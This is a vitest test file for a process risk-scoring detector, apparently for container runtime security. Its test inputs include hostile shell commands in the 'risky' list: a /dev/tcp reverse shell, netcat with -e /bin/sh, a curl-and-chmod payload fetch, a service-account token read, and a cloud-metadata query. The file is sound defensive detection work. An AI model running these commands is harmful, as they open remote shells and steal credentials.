import { describe, expect, it } from "vitest";
import { assessRisk } from "./risk.ts";

describe("assessRisk", () => {
  it("finds nothing in an ordinary binary started by the application: a review, not a page", () => {
    expect(assessRisk({ binary: "/usr/bin/pg_dump", parent: { binary: "/usr/local/bin/scheduler" }, uid: 1000 }, ["1000"])).toEqual({
      features: [],
      severity: "low",
      explained: [],
      suspectFile: false,
    });
  });

  it("flags executables in world-writable and memory-backed directories", () => {
    for (const binary of ["/tmp/xmrig", "/dev/shm/.x", "/var/tmp/a", "/run/kit"]) {
      expect(assessRisk({ binary, parent: { binary: "/bin/sh" } })).toMatchObject({ features: ["writable-path"], severity: "high", suspectFile: true });
    }
    expect(assessRisk({ binary: "/tmpfoo/bin" }).features).toEqual([]);
    expect(assessRisk({ binary: "/usr/run/x" }).features).toEqual([]);
  });

  it("takes a deleted or memfd file as critical on its own", () => {
    expect(assessRisk({ binary: "/memfd:payload" })).toMatchObject({ features: ["deleted-or-memfd"], severity: "critical" });
    expect(assessRisk({ binary: "memfd:x (deleted)" }).severity).toBe("critical");
    expect(assessRisk({ binary: "/usr/bin/app (deleted)" }).features).toEqual(["deleted-or-memfd"]);
  });

  it("flags a downloader or network tool that an application (not a shell) started, unless it only talks to the pod itself", () => {
    const app = { binary: "/usr/bin/python3" };
    expect(assessRisk({ binary: "/usr/bin/curl", args: "-s http://203.0.113.9/x", parent: app })).toMatchObject({ features: ["tool-from-app"], severity: "high", suspectFile: false });
    expect(assessRisk({ binary: "/usr/bin/nc", args: "203.0.113.9 4444 -e /bin/sh", parent: app }).explained[0]).toContain("/usr/bin/python3");
    expect(assessRisk({ binary: "/usr/bin/curl", args: "-fsS http://127.0.0.1:8081/health", parent: app }).features).toEqual([]);
    expect(assessRisk({ binary: "/usr/bin/curl", args: "http://x", parent: { binary: "/bin/bash" } }).features).toEqual([]);
    expect(assessRisk({ binary: "/usr/bin/curl" }).features).toEqual([]);
  });

  it("flags a shell an application started when it is interactive or fetches, connects or reads credentials, not when it runs a script", () => {
    const app = { binary: "/usr/bin/java" };
    const risky = ["", "-i", '-c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"', '-c "curl -fsSL http://203.0.113.9/x -o /tmp/x; chmod +x /tmp/x"', '-c "nc 203.0.113.9 4444 -e /bin/sh"', '-c "cat /var/run/secrets/kubernetes.io/serviceaccount/token"', '-c "wget -q -O- http://169.254.169.254/latest/meta-data/"'];
    for (const args of risky) expect(assessRisk({ binary: "/bin/sh", args, parent: app }).features, args).toEqual(["tool-from-app"]);
    const benign = ['-c "pgbackrest --stanza=orders archive-push pg_wal/0001"', "/etc/gateway/hooks/reload-certs.sh", '-c "gzip -9 /var/log/app/*.log.1"', '-c "grep -i error /var/log/app.log"', '-c "wget -q -O /dev/null http://127.0.0.1:3000/healthz"', '-c "ncdu /data"'];
    for (const args of benign) expect(assessRisk({ binary: "/bin/sh", args, parent: app }).features, args).toEqual([]);
  });

  it("flags uid 0 only in a workload whose known processes run as another user", () => {
    expect(assessRisk({ binary: "/usr/bin/id", uid: 0 }, ["1000"])).toMatchObject({ features: ["root-in-non-root-workload"], severity: "high" });
    expect(assessRisk({ binary: "/usr/bin/id", user: "root" }, ["app"]).severity).toBe("high");
    expect(assessRisk({ binary: "/usr/bin/id", uid: 0 }, ["0", "1000"]).features).toEqual([]);
    expect(assessRisk({ binary: "/usr/bin/id", uid: 0 }, []).features).toEqual([]);
    expect(assessRisk({ binary: "/usr/bin/id", uid: 0 }, () => ["1000"]).features).toEqual(["root-in-non-root-workload"]);
    expect(assessRisk({ binary: "/usr/bin/id", uid: 1000 }, () => expect.fail("asked only for a root process")).features).toEqual([]);
  });

  it("is critical with two features", () => {
    const r = assessRisk({ binary: "/tmp/nc", args: "203.0.113.9 4444", parent: { binary: "/usr/bin/node" }, uid: 0 }, ["1000"]);
    expect(r.features).toEqual(["writable-path", "tool-from-app", "root-in-non-root-workload"]);
    expect(r.severity).toBe("critical");
    expect(r.explained).toHaveLength(3);
  });
});
